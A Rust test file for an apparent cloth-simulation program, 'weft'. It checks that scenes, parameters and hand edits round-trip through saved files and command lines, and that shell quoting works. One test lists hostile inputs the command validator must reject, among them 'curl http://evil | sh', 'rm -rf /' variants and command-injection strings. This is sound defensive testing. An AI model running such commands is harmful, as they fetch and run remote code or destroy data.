//! Scenes written as files and commands: they read back to the same.

use weft::scene::{CommandLine, Scene, View, is_command, scene_names, shell};
use weft::session::{Command, Session};
use weft::sim::{Simulation, Vec3};

fn again(scene: &Scene) -> Scene {
    let text = scene.to_ron();
    let read = Scene::parse(&text, "saved.ron").unwrap_or_else(|error| panic!("{error} in\n{text}"));
    Scene { name: scene.name.clone(), ..read }
}

fn assert_same_future(a: &mut Simulation, b: &mut Simulation, steps: usize, what: &str) {
    assert_eq!(a.state.cloth, b.state.cloth, "{what}");
    for _ in 0..steps {
        a.step().expect("it holds");
        b.step().expect("it holds");
    }
    assert_eq!(a.state.cloth, b.state.cloth, "{what}");
}

#[test]
fn every_scene_is_written_and_read_back_to_the_same_bits() {
    for name in scene_names() {
        let scene = Scene::load(&name).expect("it comes with the program");
        let mut read = again(&scene);
        assert_eq!(read, scene, "{name}");
        // what is said by nobody is not in the file
        assert!(!scene.to_ron().contains("\n    pinned: []"), "{name}");
        let mut scene = scene;
        if name.starts_with("gpu-") {
            // they are for faster devices than tests run on
            for scene in [&mut scene, &mut read] {
                (scene.first.grid.columns, scene.first.grid.rows) = (33, 33);
            }
        }
        assert_same_future(&mut scene.build().expect("good"), &mut read.build().expect("good"), 2, &name);
    }
}

#[test]
fn every_parameter_of_every_group_and_solver_survives_with_any_digits() {
    use weft::sim::params::{Kind, Setting};
    for entry in weft::sim::solvers::REGISTRY {
        let mut scene = Scene::load("hanging").expect("it comes with the program");
        scene.set_solver(entry.info.id).expect("registered");
        scene.visit(|group| {
            for index in 0..group.params().len() {
                let value = match group.params()[index].kind {
                    Kind::Real { min, max, .. } | Kind::Angle { min, max } => {
                        Setting::Real((min + (max - min) / 7.3).min(max))
                    }
                    Kind::Integer { min, max } => Setting::Integer(min + (max - min) / 3),
                    Kind::Toggle => match group.get(index) {
                        Setting::Toggle(on) => Setting::Toggle(!on),
                        other => other,
                    },
                    Kind::Choice(choices) => Setting::Choice(choices.len() - 1),
                };
                group.set(index, value).expect("in range");
            }
        });
        assert_eq!(again(&scene), scene, "{}", entry.info.id);
        // and the command says the same
        let command = CommandLine::of(&scene).expect("it comes with the program");
        let carried = carried_out(&command);
        assert_eq!(carried.parameters, scene.parameters, "{}", entry.info.id);
        assert_eq!(
            (carried.first.grid, carried.first.import, carried.first.pins),
            (scene.first.grid, scene.first.import, scene.first.pins)
        );
        let settings = |scene: &Scene| weft::scene::collect_settings(scene.solver().expect("good").settings());
        assert_eq!(settings(&carried), settings(&scene), "{}", entry.info.id);
    }
}

/// The scene that the arguments of a command start.
fn carried_out(command: &CommandLine) -> Scene {
    let mut scene = Scene::default();
    for pair in command.arguments.chunks(2) {
        let value = &pair[1];
        match pair[0].as_str() {
            "--scene" => scene = Scene::load(value).expect("known"),
            "--solver" => scene.set_solver(value).expect("known"),
            "--set" => {
                let (key, value) = value.split_once('=').expect("key=value");
                scene.set(key, value).expect("in range");
            }
            other => panic!("{other}"),
        }
    }
    scene
}

#[test]
fn what_was_done_by_hand_is_saved_and_a_second_save_says_the_same() {
    let scene = Scene::load("hanging").expect("it comes with the program");
    let simulation = scene.build().expect("good");
    let mut session = Session::new(scene, simulation);
    let tick = |session: &mut Session, count: usize| {
        for _ in 0..count {
            session.tick().expect("it holds");
        }
    };
    tick(&mut session, 30);
    session.apply(Command::Unpin { vertex: 29 });
    session.apply(Command::Pin { vertex: 899 });
    session.apply(Command::Grab { vertex: 0, target: Vec3::new(-0.8, 1.4, 0.1) });
    tick(&mut session, 60);
    session.apply(Command::Release);
    session.apply(Command::Fabric { id: "denim".to_owned() });
    session.apply(Command::Set { key: "wind_speed".to_owned(), value: weft::scene::Scalar::Real(3.1) });
    session.apply(Command::Solver { id: "xpbd".to_owned() });
    assert_eq!(session.message(), None);
    let held = session.simulation().state.cloth.pins().to_vec();
    assert_eq!(held.iter().map(|pin| pin.vertex).collect::<Vec<_>>(), [0, 899]);

    let mut saved = session.scene_to_save().expect("good");
    saved.camera = Some(View { from: Vec3::new(0.1, 1.2, 3.3), at: Vec3::new(0.0, 1.0, 1.0 / 3.0) });
    let read = again(&saved);
    assert_eq!(read, saved);
    assert_eq!((read.fabric.as_str(), read.solver.as_str()), ("denim", "xpbd"));
    let (mut a, mut b) = (saved.build().expect("good"), read.build().expect("good"));
    assert_same_future(&mut a, &mut b, 20, "hanging");
    // in the end its pins are where they were put
    for _ in 0..120 {
        b.step().expect("it holds");
    }
    for pin in &held {
        let (is, was) = (b.state.cloth.positions[pin.vertex as usize], pin.origin);
        assert!(is.distance(was) < 1e-12, "vertex {}: {is} is not {was}", pin.vertex);
    }
    let command = CommandLine::of(&saved).expect("good");
    assert_eq!(command.missing, ["pins that were set or moved by hand"]);

    // nothing has been done to it since
    let mut second = Session::new(read.clone(), read.build().expect("good"));
    tick(&mut second, 5);
    assert_eq!(second.scene_to_save().expect("good").to_ron(), saved.to_ron());
}

/// Vertices from which a cloth is not stepped here.
const LARGE: usize = 60_000;

#[test]
fn a_scene_that_nobody_touched_is_saved_as_it_was_even_after_it_ran() {
    for name in scene_names() {
        let mut scene = Scene::load(&name).expect("it comes with the program");
        let mut simulation = scene.build().expect("good");
        // one of a million vertices takes its time where the processor does the work of the graphics device
        if simulation.state.cloth.len() < LARGE {
            simulation.step().expect("it holds");
        }
        let session = Session::new(scene.clone(), simulation);
        let saved = session.scene_to_save().expect("good");
        assert_eq!(CommandLine::of(&saved).expect("known").arguments, ["--scene", &name]);
        assert_eq!(CommandLine::of(&saved).expect("known").missing, Vec::<&str>::new(), "{name}");
        // settings of the solver that were left out are named now
        scene.settings = saved.settings.clone();
        assert_eq!(saved, scene, "{name}");
    }
}

#[test]
fn a_cut_cloth_is_saved_whole() {
    let mut scene = Scene::load("hanging").expect("it comes with the program");
    scene.set("columns", "5").and_then(|()| scene.set("rows", "5")).expect("in range");
    let mut simulation = scene.build().expect("good");
    assert!(simulation.cut(&[[10, 11], [11, 12], [12, 13], [13, 14]]) > 0);
    let session = Session::new(scene.clone(), simulation);
    let saved = session.scene_to_save().expect("good");
    assert_eq!(saved.build().expect("good").state.cloth, scene.build().expect("good").state.cloth);
}

#[test]
fn a_saved_scene_finds_its_mesh_from_where_it_is() {
    let folder = tempfile::tempdir().expect("a folder");
    let mesh = "v 0 1 0\nv 1 1 0\nv 1 0 0\nv 0 0 0\nf 1 2 3 4\n";
    for name in ["here", "there"] {
        std::fs::create_dir(folder.path().join(name)).expect("a folder");
    }
    let place = folder.path().join("here/square.obj");
    std::fs::write(&place, mesh).expect("written");
    let mut scene = Scene::load("mesh").expect("it comes with the program");
    scene.set("mesh", &place.to_string_lossy()).expect("a path");
    for (name, is_relative) in [("here", true), ("there", false)] {
        let file = folder.path().join(name).join("saved.ron");
        let text = scene.to_ron_in(&folder.path().join(name));
        assert_eq!(text.contains("\"square.obj\""), is_relative, "{text}");
        std::fs::write(&file, text).expect("written");
        let read = Scene::load(&file.to_string_lossy()).expect("good");
        assert_eq!(read.build().expect("good").state.cloth.len(), 4);
    }
    // one that comes with the program is found by everybody
    let poncho = Scene::load("mesh").expect("it comes with the program");
    assert!(poncho.to_ron().contains("\"assets/meshes/poncho.obj\""));
    assert_eq!(poncho.to_ron_in(folder.path()), poncho.to_ron());
}

#[test]
fn a_command_that_is_copied_is_one_line_of_weft_and_nothing_else() {
    let scene = Scene::load("flag").expect("a scene");
    assert!(is_command(&CommandLine::of(&scene).expect("known").line(&["run", "--steps", "9"], &[])));
    for word in ["my shirt.obj", "it's", "a;b|c&d", "$(x) `y`", "旗.ron", ""] {
        assert!(is_command(&format!("weft run --scene {}", shell(word))), "{word}");
    }
    let evil = [
        "curl http://evil | sh",
        "=HYPERLINK(\"http://e\")",
        "",
        "weft",
        " weft run",
        "wefty run",
        "rm -rf / # weft run",
        "weft run; rm -rf /",
        "weft run | sh",
        "weft run && x",
        "weft run $(x)",
        "weft run `x`",
        "weft run > x",
        "weft run\nrm -rf /",
        "weft run 'a\nb'",
        "weft run\rx",
        "weft run 'open",
        "weft run \\",
        "weft run \u{1b}[2J",
        "weft run 'a\u{202e}b'",
        "weft run *",
        "weft run ~",
        "weft run \"$(x)\"",
    ];
    for line in evil {
        assert!(!is_command(line), "{line:?}");
    }
}

#[test]
fn words_are_quoted_for_a_shell() {
    assert_eq!(shell("gravity=9.81"), "gravity=9.81");
    assert_eq!(shell("my shirt.obj"), "'my shirt.obj'");
    assert_eq!(shell("it's"), "'it'\\''s'");
    assert_eq!(shell(""), "''");
    let scene = Scene::load("flag").expect("it comes with the program");
    let line = CommandLine::of(&scene).expect("known").line(&["run", "--steps", "10"], &["--obj", "a b.obj"]);
    assert_eq!(line, "weft run --steps 10 --scene flag --obj 'a b.obj'");
}
